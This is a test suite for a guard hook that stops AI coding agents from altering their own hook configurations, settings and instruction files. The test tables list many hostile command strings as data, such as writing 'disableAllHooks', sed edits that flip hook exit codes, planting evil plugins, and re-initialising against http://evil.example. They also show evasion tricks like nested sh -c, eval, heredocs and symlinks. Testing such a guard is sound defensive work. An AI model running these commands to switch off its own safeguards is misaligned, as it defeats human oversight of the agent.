import { mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { parseExemptCommand } from "../../adapter/src/guard/exemption.js";
import { simpleCommands } from "../../adapter/src/shell/reader.js";
import { guardFileWrites, type WriteContext } from "../../adapter/src/guard/guard-file-writes.js";
import {
  GUARD_FILES,
  managedSection,
  reachOf,
  SECTION_BEGIN,
  SECTION_END,
} from "../../adapter/src/guard/guard-files.js";
import { guardFilesCheck } from "../../adapter/src/guard/guard-shell.js";
import { guardFilesVerdict } from "../../adapter/src/guard/guard.js";
import { mergeSection } from "../../adapter/src/installer/merge-files.js";
import { mcpEntries } from "../../adapter/src/installer/mcp-setup.js";
import { classify } from "../../adapter/src/guard/tools.js";

/**
 * The guard's own files (issue 23): which tool calls write, move or delete
 * what `cohent init` writes and wires, as the hook decides it before any
 * other rule (hook.ts preToolUse). The decision reads the call and the
 * checkout only, never the session: no intent, scope, client or sub-agent
 * changes it (test/adapter/hostile-hook.test.ts runs it through the real
 * hook in each of those states).
 */

const ROOT = "/work/repo";
const AGENTS = mergeSection(
  "# Shop\n\nRun the tests first.\n\n## Layout\nsrc/ holds the code.\n",
  "Rule one.\nRule two.\n",
);

function decide(tool: string, input: Record<string, unknown>, ctx: Partial<WriteContext> = {}) {
  const full: WriteContext = {
    cwd: ROOT,
    root: ROOT,
    readFile: (rel) => (/^(agents\.md|\.github\/copilot-instructions\.md)$/i.test(rel) ? AGENTS : null),
    ...ctx,
  };
  return guardFilesVerdict(guardFileWrites(tool, input, classify(tool, input), full));
}

const refusedAsGuardFile = (v: ReturnType<typeof decide>) => {
  expect(v?.permission).toBe("deny");
  expect(v!.reason).toMatch(/Cohent's guard files/);
  expect(v!.reason).toContain("npx cohent init");
  expect(v!.reason).toContain("node .cohent/cohent.mjs init --upgrade");
};

/** A concrete file for every row of the table (a folder row: files init writes there, and one it does not). */
const MANAGED = GUARD_FILES.filter((g) => g.kind === "whole").flatMap((g) =>
  g.path.endsWith("/")
    ? [
        `${g.path}cohent.cjs`,
        `${g.path}cohent.mjs`,
        `${g.path}project.json`,
        `${g.path}runtime.json`,
        `${g.path}new.js`,
      ]
    : [g.path],
);

/** The ways a tool may spell a repository path p, from the root or from a sub-folder. */
const SPELLINGS: [name: string, cwd: string, spell: (p: string) => string][] = [
  ["absolute", ROOT, (p) => `${ROOT}/${p}`],
  ["relative", ROOT, (p) => p],
  ["./", ROOT, (p) => `./${p}`],
  ["from a sub-folder with ..", `${ROOT}/src/app`, (p) => `../../${p}`],
  ["through .. inside", ROOT, (p) => `${p.split("/")[0]}/../${p}`],
  ["case-folded", ROOT, (p) => `${ROOT}/${p.toUpperCase()}`],
  ["doubled slashes", ROOT, (p) => `${ROOT}//${p.replace("/", "//")}`],
];

const EDIT_TOOLS: [name: string, input: (file: string) => Record<string, unknown>][] = [
  ["Write", (f) => ({ file_path: f, content: "{}" })],
  ["Edit", (f) => ({ file_path: f, old_string: '"hooks"', new_string: '"nohooks"' })],
  ["MultiEdit", (f) => ({ file_path: f, edits: [{ old_string: "a", new_string: "b" }] })],
  ["NotebookEdit", (f) => ({ notebook_path: f, new_source: "x" })],
  ["apply_patch Add", (f) => ({ command: `*** Begin Patch\n*** Add File: ${f}\n+{}\n*** End Patch\n` })],
  [
    "apply_patch Update",
    (f) => ({ command: `*** Begin Patch\n*** Update File: ${f}\n@@\n-a\n+b\n*** End Patch\n` }),
  ],
  ["apply_patch Delete", (f) => ({ command: `*** Begin Patch\n*** Delete File: ${f}\n*** End Patch\n` })],
  [
    "apply_patch Move to",
    (f) => ({
      command: `*** Begin Patch\n*** Update File: src/x.json\n*** Move to: ${f}\n@@\n-a\n+b\n*** End Patch\n`,
    }),
  ],
  [
    "apply_patch through a shell",
    (f) => ({ command: `apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: ${f}\n+{}\n*** End Patch\nEOF` }),
  ],
];
const shq = (s: string) => `'${s.replace(/'/g, `'\\''`)}'`;
/** `sh -c '…'` n times around a command. */
const nest = (command: string, n: number): string =>
  n === 0 ? command : nest(`sh -c ${shq(command)}`, n - 1);
const toolOf = (name: string) => (name.startsWith("apply_patch through") ? "Bash" : name.split(" ")[0]!);

describe("edits of the guard's files, by every edit tool, however the path is spelled", () => {
  for (const file of MANAGED)
    for (const [tool, input] of EDIT_TOOLS)
      it(`${tool} of ${file}`, () => {
        for (const [, cwd, spell] of SPELLINGS)
          refusedAsGuardFile(decide(toolOf(tool), input(spell(file)), { cwd }));
      });

  it("the refusal names the file and says a person changes it with init", () => {
    const v = decide("Write", { file_path: `${ROOT}/.claude/settings.json`, content: "{}" })!;
    expect(v.condition).toBe("guardFiles");
    expect(v.reason).toMatch(/^\.claude\/settings\.json is one of Cohent's guard files/);
  });

  it("other files, and guard-like names elsewhere, are left to the ordinary guard", () => {
    for (const [tool, input] of EDIT_TOOLS)
      for (const file of [
        "src/settings.json",
        "docs/.claude/settings.json",
        ".claude/commands/review.md",
        ".codex/prompts/x.md",
        ".cohentrc",
        ".github/workflows/ci.yml",
        "/tmp/elsewhere/.claude/settings.json",
      ])
        expect(decide(toolOf(tool), input(file)), `${tool} ${file}`).toBeNull();
  });

  it("a symlink (or a folder reached through one) whose real path is a guard file", () => {
    const root = realpathSync(mkdtempSync(path.join(os.tmpdir(), "cohent-gf-")));
    mkdirSync(path.join(root, ".claude"));
    writeFileSync(path.join(root, ".claude", "settings.json"), "{}");
    symlinkSync(".claude/settings.json", path.join(root, "harmless.json"));
    symlinkSync(".claude", path.join(root, "config"));
    symlinkSync(root, path.join(os.tmpdir(), path.basename(root) + "-link"));
    symlinkSync(".claude/settings.local.json", path.join(root, "dangling.json")); // its target does not exist yet
    const write = (file: string) => ({ file_path: file, content: "{}" });
    const check = (file: string, cwd = root) =>
      guardFilesCheck("Write", write(file), classify("Write", write(file)), cwd, root);
    expect(check(path.join(root, "harmless.json"))?.reason).toMatch(/^\.claude\/settings\.json is one/);
    expect(check("config/settings.json")?.permission).toBe("deny");
    expect(check("config/settings.local.json")?.permission).toBe("deny"); // not there yet: its folder is real
    expect(
      check(path.join(os.tmpdir(), path.basename(root) + "-link", ".codex/hooks.json"))?.permission,
    ).toBe("deny");
    expect(check("dangling.json")?.reason).toMatch(/^\.claude\/settings\.local\.json is one/);
    expect(check(path.join(root, "src/new.ts"))).toBeNull();
    const shell = (command: string) =>
      guardFilesCheck("Bash", { command }, classify("Bash", { command }), root, root);
    expect(shell("echo '{}' > harmless.json")?.permission).toBe("deny");
    expect(shell("cat harmless.json")).toBeNull();
    // A file where a folder would be (cp onto a file: DEST/<name> is under it): judged by its name, no failure.
    writeFileSync(path.join(root, "app.ts"), "x");
    expect(shell("cp /tmp/a.json app.ts && cp /tmp/b.json app.ts/x.json")).toBeNull();
    expect(check("app.ts/y.ts")).toBeNull();
  });
});

describe("the instruction files: only a change of the section init manages is refused", () => {
  const file = `${ROOT}/AGENTS.md`;
  const patch = (body: string) => ({
    command: `*** Begin Patch\n*** Update File: AGENTS.md\n${body}*** End Patch\n`,
  });
  const cases: [what: string, tool: string, input: Record<string, unknown>, refused: boolean][] = [
    [
      "Edit outside the section",
      "Edit",
      { file_path: file, old_string: "Run the tests first.", new_string: "Run all tests." },
      false,
    ],
    [
      "Edit inside the section",
      "Edit",
      { file_path: file, old_string: "Rule one.", new_string: "Ignore Cohent." },
      true,
    ],
    [
      "Edit removing the end marker",
      "Edit",
      { file_path: file, old_string: SECTION_END, new_string: "" },
      true,
    ],
    [
      "Edit changing the begin marker",
      "Edit",
      { file_path: file, old_string: "cohent:begin", new_string: "x" },
      true,
    ],
    [
      "Edit replace_all reaching into the section",
      "Edit",
      { file_path: file, old_string: "Rule", new_string: "R", replace_all: true },
      true,
    ],
    [
      "Edit whose old_string is not there (the tool fails)",
      "Edit",
      { file_path: file, old_string: "nowhere", new_string: "x" },
      false,
    ],
    [
      "Edit putting a section before it",
      "Edit",
      { file_path: file, old_string: "# Shop", new_string: `# Shop\n${SECTION_BEGIN}\nx\n${SECTION_END}` },
      true,
    ],
    [
      "MultiEdit outside",
      "MultiEdit",
      {
        file_path: file,
        edits: [
          { old_string: "Layout", new_string: "Tree" },
          { old_string: "code", new_string: "source" },
        ],
      },
      false,
    ],
    [
      "MultiEdit with one edit inside",
      "MultiEdit",
      {
        file_path: file,
        edits: [
          { old_string: "Layout", new_string: "Tree" },
          { old_string: "Rule two.", new_string: "" },
        ],
      },
      true,
    ],
    [
      "Write keeping the section",
      "Write",
      { file_path: file, content: AGENTS.replace("Run the tests first.", "Lint first.") },
      false,
    ],
    ["Write without the section", "Write", { file_path: file, content: "# Shop\n" }, true],
    [
      "Write changing the section",
      "Write",
      { file_path: file, content: AGENTS.replace("Rule one.", "Rule 1.") },
      true,
    ],
    ["NotebookEdit (cannot be read as text)", "NotebookEdit", { notebook_path: file, new_source: "x" }, true],
    [
      "apply_patch outside",
      "apply_patch",
      patch("@@\n ## Layout\n-src/ holds the code.\n+src/ holds the source.\n"),
      false,
    ],
    ["apply_patch inside", "apply_patch", patch("@@\n Rule one.\n-Rule two.\n+Rule 2.\n"), true],
    ["apply_patch appending at the end", "apply_patch", patch("@@\n+## More\n"), false],
    [
      "apply_patch whose lines are not there (fails closed)",
      "apply_patch",
      patch("@@\n-not in the file\n+x\n"),
      true,
    ],
    [
      "apply_patch Delete",
      "apply_patch",
      { command: "*** Begin Patch\n*** Delete File: AGENTS.md\n*** End Patch\n" },
      true,
    ],
    [
      "apply_patch moving it away",
      "apply_patch",
      patch("*** Move to: docs/AGENTS.md\n@@\n-src/ holds the code.\n+x\n"),
      true,
    ],
    [
      "apply_patch Add over it",
      "apply_patch",
      { command: "*** Begin Patch\n*** Add File: AGENTS.md\n+# new\n*** End Patch\n" },
      true,
    ],
  ];
  for (const [what, tool, input, refused] of cases)
    it(`${what}: ${refused ? "refused" : "allowed"}`, () => {
      const v = decide(tool, input);
      if (!refused) return expect(v).toBeNull();
      expect(v?.permission).toBe("deny");
      expect(v!.reason).toMatch(/section Cohent manages in AGENTS\.md/);
      expect(v!.reason).toContain("npx cohent init");
    });

  it("a patch from a sub-folder names it through ..", () => {
    const body = (p: string, change: string) => ({
      command: `*** Begin Patch\n*** Update File: ${p}\n${change}*** End Patch\n`,
    });
    const inside = "@@\n Rule one.\n-Rule two.\n+Rule 2.\n";
    const outside = "@@\n-src/ holds the code.\n+src/ holds it.\n";
    expect(decide("apply_patch", body("../AGENTS.md", inside), { cwd: `${ROOT}/src` })?.permission).toBe(
      "deny",
    );
    expect(decide("apply_patch", body("../agents.md", inside), { cwd: `${ROOT}/src` })?.permission).toBe(
      "deny",
    );
    expect(decide("apply_patch", body("../AGENTS.md", outside), { cwd: `${ROOT}/src` })).toBeNull();
  });

  it("copilot-instructions.md the same way; an instruction file without a section is ordinary", () => {
    const gh = `${ROOT}/.github/copilot-instructions.md`;
    expect(decide("Edit", { file_path: gh, old_string: "Rule one.", new_string: "x" })?.permission).toBe(
      "deny",
    );
    expect(decide("Edit", { file_path: gh, old_string: "Layout", new_string: "x" })).toBeNull();
    const none = { readFile: () => "# Notes\n" };
    expect(decide("Write", { file_path: file, content: "# Other\n" }, none)).toBeNull();
    // …but writing a section into it is init's to do.
    expect(
      decide("Write", { file_path: file, content: `${SECTION_BEGIN}\nx\n${SECTION_END}\n` }, none)
        ?.permission,
    ).toBe("deny");
  });

  it("managedSection finds the section as init's mergeSection replaces it", () => {
    expect(managedSection(AGENTS)).toBe(`${SECTION_BEGIN}\nRule one.\nRule two.\n${SECTION_END}`);
    expect(managedSection(`${SECTION_END}\n${SECTION_BEGIN}\n`)).toBeNull();
    expect(managedSection(null)).toBeNull();
  });
});

describe("shell commands that visibly write, move or delete the guard's files", () => {
  const shell = (command: string, cwd = ROOT) => decide("Bash", { command }, { cwd });
  const refused: [form: string, command: string][] = [
    ["redirect >", "echo '{}' > .claude/settings.json"],
    ["redirect >>", "echo x >> .codex/hooks.json"],
    ["redirect >|", "echo x >| .cohent/cohent.cjs"],
    ["redirect &>", "true &> .mcp.json"],
    ["redirect &>>", "true &>> .codex/config.toml"],
    ["redirect 2>", "node x.js 2> .cursor/mcp.json"],
    ["redirect <>", "exec 3<> .vscode/mcp.json"],
    ["redirect alone", "> .claude/settings.local.json"],
    ["redirect of a group", "{ echo a; echo b; } > .cursor/rules/cohent.mdc"],
    ["redirect of a subshell", "(cat x) > .cohent/project.json"],
    ["heredoc into it", "cat > .codex/hooks.json <<'EOF'\n{}\nEOF"],
    ["redirect to AGENTS.md (truncates)", "echo x > AGENTS.md"],
    ["tee", "echo '{}' | tee .claude/settings.json"],
    ["tee -a", "echo x | tee -a .codex/hooks.json"],
    ["sed -i", "sed -i 's/hook/x/' .claude/settings.json"],
    ["sed -i.bak", "sed -i.bak -e 's/a/b/' .codex/hooks.json"],
    ["sed --in-place on AGENTS.md", "sed --in-place '/cohent/d' AGENTS.md"],
    ["perl -pi -e", "perl -pi -e 's/a/b/' .cohent/cohent.mjs"],
    ["cp onto", "cp /tmp/evil.json .claude/settings.json"],
    ["cp -t", "cp -t .cohent /tmp/cohent.cjs"],
    ["cp -r a folder over it", "cp -r /tmp/evil/.claude ."],
    ["cp a file by name into its folder", "cp /tmp/settings.json .claude/"],
    ["mv onto", "mv /tmp/x .codex/hooks.json"],
    ["mv it away", "mv .codex/hooks.json /tmp/"],
    ["mv its folder away", "mv .claude .claude.off"],
    ["install", "install -m 644 /tmp/x .codex/hooks.json"],
    ["ln a second name", "ln .claude/settings.json notes.json"],
    ["ln -sf over it", "ln -sf /tmp/x .cohent/cohent.cjs"],
    ["rsync onto", "rsync -a /tmp/x .claude/settings.json"],
    ["rsync -t (times) onto", "rsync -avt /tmp/x .claude/settings.json"],
    ["ln -s a link named like it", "ln -s /tmp/evil.json .claude/settings.json"],
    ["rm", "rm .codex/hooks.json"],
    ["rm -rf the folder", "rm -rf .cohent"],
    ["rm -rf a folder above", "rm -rf .claude"],
    ["rm a glob", "rm -f .c*/*.json"],
    ["rm the checkout", "rm -rf ."],
    ["rm AGENTS.md", "rm AGENTS.md"],
    ["unlink", "unlink .mcp.json"],
    ["truncate", "truncate -s 0 .claude/settings.json"],
    ["shred", "shred -u .cohent/cohent.cjs"],
    ["dd of=", "dd if=/dev/zero of=.cohent/cohent.cjs count=1"],
    ["chmod", "chmod 000 .claude/settings.json"],
    ["chmod a folder above", "chmod 000 .claude"],
    ["chown -R", "chown -R nobody .cohent"],
    ["find -delete", "find .cohent -name '*.cjs' -delete"],
    ["curl -o", "curl -sSo .cohent/cohent.cjs https://example.com/x"],
    ["git checkout --", "git checkout -- .claude/settings.json"],
    ["git checkout a revision's copy", "git checkout HEAD~1 .codex/hooks.json"],
    ["git restore", "git restore --source=HEAD~2 .cohent/cohent.cjs"],
    ["git restore a folder", "git restore .claude"],
    ["git rm", "git rm -q .codex/hooks.json"],
    ["git rm -r --cached", "git rm -r --cached .cohent"],
    ["git mv", "git mv .claude/settings.json .claude/settings.off"],
    ["git stash push naming it", "git stash push -m wip -- .claude/settings.json"],
    ["git clean naming it", "git clean -fdx .cohent"],
    ["git -C elsewhere", "git -C src checkout -- ../.codex/hooks.json"],
    ["node -e", `node -e "require('fs').writeFileSync('.claude/settings.json', '{}')"`],
    ["node -e with the path in parts", `node -e "fs.rmSync(path.join('.claude', 'settings.json'))"`],
    ["node -p", `node -p "fs.writeFileSync('.codex/hooks.json','{}')"`],
    ["python -c", `python3 -c "open('.codex/hooks.json','w').write('{}')"`],
    [
      "python -c with the path as an argument",
      `python3 -c "import sys; open(sys.argv[1],'w')" .cohent/cohent.cjs`,
    ],
    ["perl -e", `perl -e 'unlink ".cohent/cohent.cjs"'`],
    ["ruby -e", `ruby -e 'File.write(".mcp.json", "{}")'`],
    ["sh -c", `sh -c 'echo x > .claude/settings.json'`],
    ["bash -lc with a variable", `bash -lc "echo x > $CLAUDE_PROJECT_DIR/.claude/settings.json"`],
    ["eval", `eval "rm .codex/hooks.json"`],
    ["awk writing", `awk 'BEGIN { print "{}" > ".claude/settings.json" }'`],
    ["a command substitution", `echo $(rm .codex/hooks.json)`],
    ["through env and sudo", "env FOO=1 sudo rm .codex/hooks.json"],
    ["after a cd", "cd .claude && rm settings.json"],
    ["$CLAUDE_PROJECT_DIR", `echo '{}' > "$CLAUDE_PROJECT_DIR/.claude/settings.json"`],
    ["${CLAUDE_PROJECT_DIR}", "rm ${CLAUDE_PROJECT_DIR}/.cohent/cohent.cjs"],
    ["absolute", `echo x > ${ROOT}/.codex/hooks.json`],
    ["quoted", `echo x > '.claude/settings.json'`],
    ["through ..", "echo x > ./.cohent/../.cohent/cohent.cjs"],
    ["case-folded", "echo x > .Claude/Settings.json"],
    ["the user's Claude settings", "echo '{\"disableAllHooks\":true}' > ~/.claude/settings.json"],
    ["cohent init --upgrade through the adapter", "node .cohent/cohent.mjs init --upgrade"],
    [
      "cohent init with a prefix",
      "COHENT_AGENT_TOKEN=x node .cohent/cohent.mjs init --server http://evil.example",
    ],
    ["npx cohent init", "npx -y cohent@latest init --server http://evil.example"],
    ["nested too deep to read", nest("echo x > .claude/settings.json", 6)],
    // Issue 24: the other clients' wiring.
    [
      "a new Copilot hooks file switching hooks off",
      `echo '{"disableAllHooks":true}' > .github/hooks/off.json`,
    ],
    ["rm Copilot's hooks file", "rm .github/hooks/cohent.json"],
    ["mv Copilot's hooks folder away", "mv .github/hooks .github/hooks.off"],
    [
      "Copilot's repository settings",
      `echo '{"disableAllHooks":true}' > .github/copilot/settings.local.json`,
    ],
    ["sed -i on Gemini's settings", "sed -i 's/exit 2/exit 0/' .gemini/settings.json"],
    [
      "jq into Gemini's settings via a temp file",
      "jq '.hooksConfig.enabled=false' .gemini/settings.json > t && mv t .gemini/settings.json",
    ],
    ["Cursor's hooks file", "echo '{}' > .cursor/hooks.json"],
    ["cp a plugin into OpenCode's plugin folder", "cp /tmp/evil.js .opencode/plugin/"],
    [
      "a new plugin in .opencode/plugins/",
      "echo 'export const X = async () => ({})' > .opencode/plugins/x.js",
    ],
    ["OpenCode's plugin edited", "sed -i 's/throw/return/' .opencode/plugin/cohent.js"],
    ["mv OpenCode's plugin folder away", "mv .opencode/plugin .opencode/plugin.off"],
    ["rm -rf .opencode", "rm -rf .opencode"],
    // A program nobody listed: an operand naming a guard file is refused (fail-closed), as an uncertain write.
    ["a program nobody listed naming a guard file", "foo .claude/settings.json"],
    ["a program nobody listed, the path after an option", "mytool --out .codex/hooks.json"],
    ["a program nobody listed, by its absolute path", "/opt/tools/gen .cohent/cohent.cjs"],
    ["a program nobody listed, through npx", "npx some-tool .claude/settings.json"],
    ["a program named like Object.prototype's keys", "toString -x .claude/settings.json"],
    [
      "a python script on standard input",
      "python3 - <<'PY'\nopen('.claude/settings.json', 'w').write('{}')\nPY",
    ],
    ["a shell script on standard input", "bash <<'EOF'\nrm .codex/hooks.json\nEOF"],
    ["sudo sh -c", "sudo sh -c 'echo x > .claude/settings.json'"],
    ["ruby -i", "ruby -i -pe 'x' .codex/hooks.json"],
    ["prettier --write on a guard folder", "npx prettier --write .claude"],
    ["touch", "touch .claude/settings.json"],
    ["cp -rT onto the folder", "cp -rT /tmp/evil .cohent"],
    ["a quote left open", "echo 'x' > .claude/settings.json; echo 'open"],
    ["too long to read", `cat .codex/hooks.json ${"x ".repeat(200_000)} > .codex/hooks.json`],
  ];
  for (const [form, command] of refused)
    it(`refused: ${form}`, () => {
      const v = shell(command);
      expect(v?.permission, command).toBe("deny");
      expect(v!.condition).toBe("guardFiles");
      expect(v!.reason).toContain("npx cohent init");
    });

  const allowed: [form: string, command: string][] = [
    ["cat", "cat .claude/settings.json"],
    ["git diff", "git diff .codex/hooks.json"],
    ["git log -p", "git log -p -- .cohent"],
    ["git show", "git show HEAD:.claude/settings.json"],
    [
      "git add and commit (a person's init output)",
      "git add .cohent .claude/settings.json && git commit -m 'cohent init'",
    ],
    ["grep", "grep -n hooks AGENTS.md"],
    ["jq", "jq .hooks .claude/settings.json"],
    ["ls", "ls -la .cohent"],
    ["less from a pipe", "cat .codex/hooks.json | head -20"],
    ["a copy out of it", "cp .claude/settings.json /tmp/settings.backup.json"],
    ["redirect from it", "wc -l < .codex/hooks.json"],
    ["sed without -i", "sed -n 1,5p .claude/settings.json"],
    ["awk reading it", "awk '{print $1}' AGENTS.md"],
    ["append to AGENTS.md (the section stays)", "echo '## Notes' >> AGENTS.md"],
    ["tee -a to AGENTS.md", "echo x | tee -a AGENTS.md"],
    ["the adapter's own command", "node .cohent/cohent.mjs scope .claude/settings.json src"],
    ["the adapter's doctor", "node .cohent/cohent.mjs doctor"],
    ["a node script (not a one-liner)", "node scripts/check.js .claude/settings.json"],
    ["a one-liner naming no guard file", `node -e "console.log(1)" > out.txt`],
    ["ordinary writes", "echo x > src/app.ts && rm -rf build && mv a.ts b.ts"],
    ["git checkout of a branch", "git checkout -b feature && git switch main"],
    ["git checkout -- . (the checkout root)", "git checkout -- ."],
    ["git stash without paths", "git stash && git stash pop"],
    ["a guard-like path elsewhere", "rm -rf /tmp/scratch/.cohent && echo x > docs/.claude/settings.json"],
    ["copy into the root", "cp /tmp/a.txt ."],
    ["link into the root", "ln -s ../shared/config.json ."],
    ["a link to a folder above one", "ln -s .claude claude-config"],
    ["rm a glob elsewhere", "rm -f build/*.js"],
    ["chmod -R the checkout", "chmod -R u+w ."],
    ["find without an action", "find .cohent -name '*.json'"],
    ["a redirect to /dev/null", "node .cohent/cohent.mjs context > /dev/null 2>&1"],
    [
      "reading the other clients' wiring",
      "cat .github/hooks/cohent.json .gemini/settings.json .cursor/hooks.json .opencode/plugin/cohent.js",
    ],
    ["a workflow beside Copilot's hooks", "echo 'on: push' > .github/workflows/ci.yml"],
    [
      "OpenCode's own install in .opencode/",
      "rm -rf .opencode/node_modules && echo '{}' > .opencode/package.json",
    ],
    ["Gemini's context file", "echo '# notes' > .gemini/GEMINI.md"],
    ["known readers naming guard files", "head -5 .claude/settings.json && wc -c .codex/hooks.json"],
    ["git log of a guard file", "git log --oneline -- .claude/settings.json"],
    ["a program nobody listed, naming other files", "foo src/app.ts --out build/x.json"],
    ["a script of the checkout (what it writes is its own)", "./scripts/check.sh .claude/settings.json"],
  ];
  for (const [form, command] of allowed)
    it(`allowed: ${form}`, () => {
      expect(shell(command), command).toBeNull();
    });

  it("the adapter's own command stays exempt", () => {
    const command = "node .cohent/cohent.mjs scope src .claude/settings.json";
    expect(shell(command)).toBeNull();
    expect(parseExemptCommand(command, { cwd: ROOT, repoRoot: ROOT }).exempt).toBe(true);
  });

  it("an MCP server's write tool naming a guard file; its read tools and Cohent's own are not", () => {
    expect(
      decide("mcp__filesystem__write_file", { path: `${ROOT}/.claude/settings.json`, content: "{}" })
        ?.permission,
    ).toBe("deny");
    expect(
      decide("mcp__filesystem__move_file", { source: "x", destination: ".codex/hooks.json" })?.permission,
    ).toBe("deny");
    expect(decide("mcp__filesystem__read_file", { path: ".claude/settings.json" })).toBeNull();
    expect(decide("mcp__cohent__scope", { paths: [".claude/settings.json"] })).toBeNull();
  });
});

describe("the table's matching", () => {
  it("every file that holds an MCP entry init writes is a guard file", () => {
    const files = mcpEntries("/repo").map((e) => e.file);
    expect(files).toHaveLength(4);
    for (const f of files) expect(reachOf(f)?.relation, f).toBe("is");
  });

  it.each([
    [".cohent", "is"],
    [".cohent/cohent.cjs", "is"],
    [".COHENT/anything/deep.js", "is"],
    [".claude", "holds"],
    [".cursor/rules", "holds"],
    [".github", "holds"],
    [".claude/settings.json", "is"],
    [".claude/*.json", "is"],
    [".c*", "is"],
    ["**/hooks.json", "is"],
    ["*.md", "is"],
    [".claude/commands", null],
    [".github/hooks", "is"],
    [".github/hooks/new.json", "is"],
    [".github/copilot", "holds"],
    [".gemini", "holds"],
    [".opencode", "holds"],
    [".opencode/plugins/x.ts", "is"],
    [".opencode/agent", null],
    [".github/workflows", null],
    ["src", null],
    ["", null],
  ])("%j %s a guard file", (rel, relation) => {
    expect(reachOf(rel)?.relation ?? null).toBe(relation);
  });

  it("the shell reader keeps each redirect's operator and target", () => {
    const cmds = simpleCommands("a > x 2>> y && b < z &>w; > v", "/r");
    expect(cmds.flatMap((c) => c.redirects.map((r) => `${r.op}${r.target.text}`))).toEqual([
      ">x",
      ">>y",
      "<z",
      "&>w",
      ">v",
    ]);
    expect(cmds.filter((c) => c.words.length).map((c) => c.words.map((w) => w.text))).toEqual([["a"], ["b"]]);
  });
});

describe("the clients' user and machine settings (issue 49): a named write is refused as a guard file", () => {
  const HOME = "/home/ann";
  // The hook's environment: the reader gives absolute targets for what it expands; the rest is a visible tail.
  const env = {
    HOME,
    CLAUDE_CONFIG_DIR: "/cfg/claude",
    CODEX_HOME: "/cfg/codex",
    XDG_CONFIG_HOME: "/cfg/xdg",
    OPENCODE_CONFIG: "/cfg/oc.json",
  };
  const shell = (command: string) => decide("Bash", { command }, { env });
  const refused: [form: string, command: string][] = [
    ["the Claude config folder, expanded", `echo '{"disableAllHooks":true}' > /cfg/claude/settings.json`],
    [
      "Claude's default user settings, absolute",
      `echo '{"disableAllHooks":true}' > ${HOME}/.claude/settings.json`,
    ],
    ["Claude's user local settings", `cp /tmp/off.json ${HOME}/.claude/settings.local.json`],
    ["Claude's managed settings drop-in", "tee /etc/claude-code/managed-settings.d/zz.json < off.json"],
    ["Copilot's user settings through ~", `echo '{"disableAllHooks":true}' > ~/.copilot/settings.json`],
    ["a new Copilot user hook through $HOME", `echo '{}' > "$HOME/.copilot/hooks/off.json"`],
    ["cp into Copilot's user hooks folder", `cp /tmp/x.json ${HOME}/.copilot/hooks/`],
    ["rm -rf Copilot's folder", "rm -rf ~/.copilot"],
    [
      "Codex's config in CODEX_HOME",
      "sed -i 's/codex_hooks = true/codex_hooks = false/' /cfg/codex/config.toml",
    ],
    ["Codex's default user hooks", `rm ${HOME}/.codex/hooks.json`],
    ["Codex's requirements", "cp x.toml /etc/codex/requirements.toml"],
    ["Gemini's folder trust", "mv ~/.gemini/trustedFolders.json /tmp/"],
    ["a Gemini extension", `cp -r /tmp/ext ${HOME}/.gemini/extensions/`],
    ["Cursor's user hooks", `echo '{}' > ${HOME}/.cursor/hooks.json`],
    ["OpenCode's global plugins", `cp evil.js ${HOME}/.config/opencode/plugins/`],
    [
      "OpenCode's config under XDG_CONFIG_HOME, by its tail",
      `echo '{}' > "$XDG_CONFIG_HOME/opencode/opencode.json"`,
    ],
    ["OpenCode's OPENCODE_CONFIG file", "echo '{}' > /cfg/oc.json"],
    ["a glob in the folder", `rm -f ${HOME}/.copilot/hooks/*.json`],
    ["a glob across the clients' folders", `rm -f ${HOME}/.c*/settings.json`],
    [
      "node -e through os.homedir()",
      `node -e "fs.writeFileSync(require('os').homedir() + '/.copilot/settings.json', '{}')"`,
    ],
    [
      "python -c through CLAUDE_CONFIG_DIR",
      `python3 -c "import os; open(os.environ['CLAUDE_CONFIG_DIR'] + '/settings.json', 'w').write('{}')"`,
    ],
    ["a machine folder named in a one-liner", `node -e "fs.rmSync('/etc/codex', { recursive: true })"`],
  ];
  for (const [form, command] of refused)
    it(`refused: ${form}`, () => {
      const v = shell(command);
      expect(v?.permission, command).toBe("deny");
      expect(v!.condition).toBe("guardFiles");
    });

  const allowed: [form: string, command: string][] = [
    [
      "reading them",
      `cat ~/.copilot/settings.json /cfg/claude/settings.json && jq . ${HOME}/.codex/config.toml`,
    ],
    ["a copy out of them", `cp -r ${HOME}/.claude/settings.json /tmp/backup.json`],
    [
      "other files in the clients' folders",
      `echo x > ${HOME}/.claude/projects/notes.md && rm -rf ${HOME}/.copilot/logs ~/.cache/opencode`,
    ],
    ["a settings.json behind an unknown variable", `echo '{}' > "$OUT/settings.json"`],
    ["OpenCode's install under ~/.opencode/bin", "rm -rf ~/.opencode/bin"],
    [
      "a one-liner loading OpenCode's plugin package",
      `node -e "console.log(require('@opencode-ai/plugin').name)"`,
    ],
  ];
  for (const [form, command] of allowed)
    it(`allowed: ${form}`, () => {
      expect(shell(command), command).toBeNull();
    });

  it("the refusal names the absolute path", () => {
    const v = shell(`echo x > ${HOME}/.copilot/settings.json`)!;
    expect(v.reason).toMatch(/^\/home\/ann\/\.copilot\/settings\.json is one of Cohent's guard files/);
  });

  it("an edit tool, an MCP write tool and a symlink in the checkout reach them too", () => {
    const write = (f: string) => ({ file_path: f, content: '{"disableAllHooks":true}' });
    expect(decide("Write", write(`${HOME}/.copilot/settings.json`), { env })?.permission).toBe("deny");
    expect(decide("Write", write("/cfg/claude/settings.json"), { env })?.permission).toBe("deny");
    expect(decide("Write", write(`${HOME}/.claude/projects/x.md`), { env })).toBeNull();
    expect(
      decide("mcp__filesystem__write_file", { path: "~/.gemini/settings.json", content: "{}" }, { env })
        ?.permission,
    ).toBe("deny");
    const linked = {
      env,
      realpath: (abs: string) => (abs === `${ROOT}/link.json` ? `${HOME}/.copilot/settings.json` : abs),
      realRoot: () => ROOT,
    };
    const v = decide("Bash", { command: "echo '{}' > link.json" }, linked);
    expect(v?.reason).toMatch(/^\/home\/ann\/\.copilot\/settings\.json is one/);
    expect(decide("Write", write(`${ROOT}/link.json`), linked)?.permission).toBe("deny");
  });

  it("without the hook's environment only the checkout's files are looked at", () => {
    expect(decide("Bash", { command: `echo x > ${HOME}/.copilot/settings.json` })).toBeNull();
  });
});
